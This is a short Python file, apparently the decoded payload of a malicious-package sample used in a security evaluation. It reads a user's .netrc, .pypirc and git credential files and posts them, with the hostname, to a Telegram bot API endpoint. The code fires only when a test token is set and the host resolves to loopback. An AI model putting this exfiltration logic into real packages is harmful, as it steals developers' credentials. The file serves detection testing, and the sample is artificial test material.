# Clear source of the payload of malicious/telegram-netrc (shipped zlib
# compressed and base64 encoded).  Sends the user's netrc, pypirc and git
# credentials to a Telegram bot as a chat message.  Acts only inside the
# evaluation (SP_TOKEN set, the bot API host resolving to loopback).
import os, socket, urllib.parse, urllib.request
e = os.environ
h = e.get("SP_TG_HOST")
if e.get("SP_TOKEN") and h and socket.gethostbyname(h).startswith("127."):
    t = ""
    for n in (".netrc", ".pypirc", ".git-credentials"):
        try:
            t += "== %s\n%s\n" % (n, open(os.path.join(os.path.expanduser("~"), n)).read())
        except OSError:
            pass
    d = urllib.parse.urlencode({"chat_id": "-100178", "text": socket.gethostname() + "\n" + t}).encode()
    try:
        urllib.request.urlopen("http://%s:%s/bot6612:AAF-x/sendMessage" % (h, e.get("SP_HTTP_PORT", "80")), d, 10).read()
    except OSError:
        pass
